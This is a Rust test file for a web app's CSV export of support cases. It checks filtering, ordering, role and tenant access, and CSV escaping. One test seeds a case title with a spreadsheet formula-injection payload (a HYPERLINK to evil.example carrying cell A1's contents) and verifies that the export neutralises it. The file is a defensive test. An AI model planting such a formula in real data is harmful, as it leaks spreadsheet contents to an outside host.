#![cfg(feature = "ssr")]
// Tests may unwrap: a panic here is a failed test, not a crashed request.
#![allow(clippy::unwrap_used, clippy::expect_used)]
//! The cases CSV export (issue 23): `/work.csv` and `/cases.csv` hold exactly the rows
//! the queue's filter matches, in its order, from the first page; text a spreadsheet
//! would run as a formula is neutralised; employees export only their own cases, the
//! team's export is for admins, and another workspace's cases are never in it.

mod common;

use app::model::Role;
use axum::http::StatusCode;
use common::world::World;
use sqlx::PgPool;

async fn world(pool: &PgPool) -> World {
    World::build(pool)
        .tenant(
            "acme",
            &[
                ("ada@acme.example", Role::Admin),
                ("emil@acme.example", Role::Employee),
                ("erin@acme.example", Role::Employee),
            ],
        )
        .tenant("globex", &[("gus@globex.example", Role::Employee)])
        .cases("acme", 400, 0)
        .cases("globex", 50, 0)
        .done()
        .await
}

/// The numbers SQL says `email`'s filter matches (`None`: everyone's), in the order.
async fn expected(pool: &PgPool, email: Option<&str>, statuses: &[&str], order: &str) -> Vec<i64> {
    let statuses: Vec<String> = statuses.iter().map(|s| s.to_string()).collect();
    sqlx::query_scalar(&format!(
        "SELECT c.number::bigint FROM cases c JOIN tenants t ON t.id = c.tenant_id
         LEFT JOIN users u ON u.id = c.assignee_id
         WHERE t.slug = 'acme' AND NOT c.archived
           AND ($1::text IS NULL OR u.email = $1)
           AND (cardinality($2::text[]) = 0 OR c.status::text = ANY($2))
         ORDER BY {order}"
    ))
    .bind(email)
    .bind(&statuses)
    .fetch_all(pool)
    .await
    .unwrap()
}

fn numbers(body: &str) -> Vec<i64> {
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_string)
        .collect();
    assert_eq!(&header[..3], ["number", "title", "customer_name"]);
    reader
        .records()
        .map(|record| record.unwrap()[0].parse().unwrap())
        .collect()
}

#[sqlx::test]
async fn the_export_is_the_filtered_queue_from_its_first_row(pool: PgPool) {
    let world = world(&pool).await;
    sqlx::query(
        "UPDATE cases SET title = '=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")',
                          customer_name = 'Comma, \"Quoted\" Line\nBreak'
         WHERE number = (SELECT min(c.number) FROM cases c JOIN users u ON u.id = c.assignee_id
                         WHERE u.email = 'emil@acme.example' AND NOT c.archived)
           AND tenant_id = (SELECT id FROM tenants WHERE slug = 'acme')",
    )
    .execute(&pool)
    .await
    .unwrap();
    let emil = world.cookie("emil@acme.example").await;
    let by_updated = "c.updated_at DESC, c.id DESC";
    for (query, statuses, order) in [
        ("", vec![], by_updated),
        (
            "status=open&status=pending",
            vec!["open", "pending"],
            by_updated,
        ),
        (
            "sort=created&after=1.1",
            vec![],
            "c.created_at DESC, c.id DESC",
        ),
    ] {
        let reply =
            common::get_with_cookie(world.state.clone(), &format!("/work.csv?{query}"), &emil)
                .await;
        assert_eq!(reply.status, StatusCode::OK, "{query}: {}", reply.body);
        assert_eq!(reply.header("content-type"), "text/csv; charset=utf-8");
        assert_eq!(
            reply.header("content-disposition"),
            "attachment; filename=\"my-cases.csv\""
        );
        let want = expected(&pool, Some("emil@acme.example"), &statuses, order).await;
        assert!(!want.is_empty());
        assert_eq!(numbers(&reply.body), want, "{query}");
    }
    let reply = common::get_with_cookie(world.state.clone(), "/work.csv", &emil).await;
    assert!(
        reply
            .body
            .contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"")
    );
    assert!(!reply.body.contains(",=HYPERLINK"));
    assert!(reply.body.contains("\"Comma, \"\"Quoted\"\" Line\nBreak\""));

    // The team's export (admins), whole or one person's.
    let ada = world.cookie("ada@acme.example").await;
    let reply = common::get_with_cookie(world.state.clone(), "/cases.csv", &ada).await;
    assert_eq!(reply.status, StatusCode::OK);
    assert_eq!(
        reply.header("content-disposition"),
        "attachment; filename=\"cases.csv\""
    );
    assert_eq!(
        numbers(&reply.body),
        expected(&pool, None, &[], by_updated).await
    );
    let erin: uuid::Uuid =
        sqlx::query_scalar("SELECT id FROM users WHERE email = 'erin@acme.example'")
            .fetch_one(&pool)
            .await
            .unwrap();
    let reply = common::get_with_cookie(
        world.state.clone(),
        &format!("/cases.csv?assignee={erin}&status=new"),
        &ada,
    )
    .await;
    assert_eq!(
        numbers(&reply.body),
        expected(&pool, Some("erin@acme.example"), &["new"], by_updated).await
    );
}

#[sqlx::test]
async fn who_may_export_which_cases(pool: PgPool) {
    let world = world(&pool).await;
    assert_eq!(
        common::get(world.state.clone(), "/work.csv").await.status,
        StatusCode::UNAUTHORIZED
    );
    assert_eq!(
        common::get(world.state.clone(), "/cases.csv").await.status,
        StatusCode::UNAUTHORIZED
    );
    let emil = world.cookie("emil@acme.example").await;
    assert_eq!(
        common::get_with_cookie(world.state.clone(), "/cases.csv", &emil)
            .await
            .status,
        StatusCode::FORBIDDEN
    );
    for bad in [
        "/work.csv?status=lost",
        "/work.csv?sort=best",
        "/work.csv?after=x",
    ] {
        let reply = common::get_with_cookie(world.state.clone(), bad, &emil).await;
        assert_eq!(reply.status, StatusCode::UNPROCESSABLE_ENTITY, "{bad}");
    }
    let ada = world.cookie("ada@acme.example").await;
    let reply =
        common::get_with_cookie(world.state.clone(), "/cases.csv?assignee=nobody", &ada).await;
    assert_eq!(reply.status, StatusCode::UNPROCESSABLE_ENTITY);
    // Globex's employee exports their own, never acme's.
    let gus = world.cookie("gus@globex.example").await;
    let reply = common::get_with_cookie(world.state.clone(), "/work.csv?archived=any", &gus).await;
    assert_eq!(reply.status, StatusCode::OK);
    let theirs: i64 = sqlx::query_scalar(
        "SELECT count(*) FROM cases c JOIN users u ON u.id = c.assignee_id
         WHERE u.email = 'gus@globex.example'",
    )
    .fetch_one(&pool)
    .await
    .unwrap();
    assert_eq!(numbers(&reply.body).len() as i64, theirs);
}
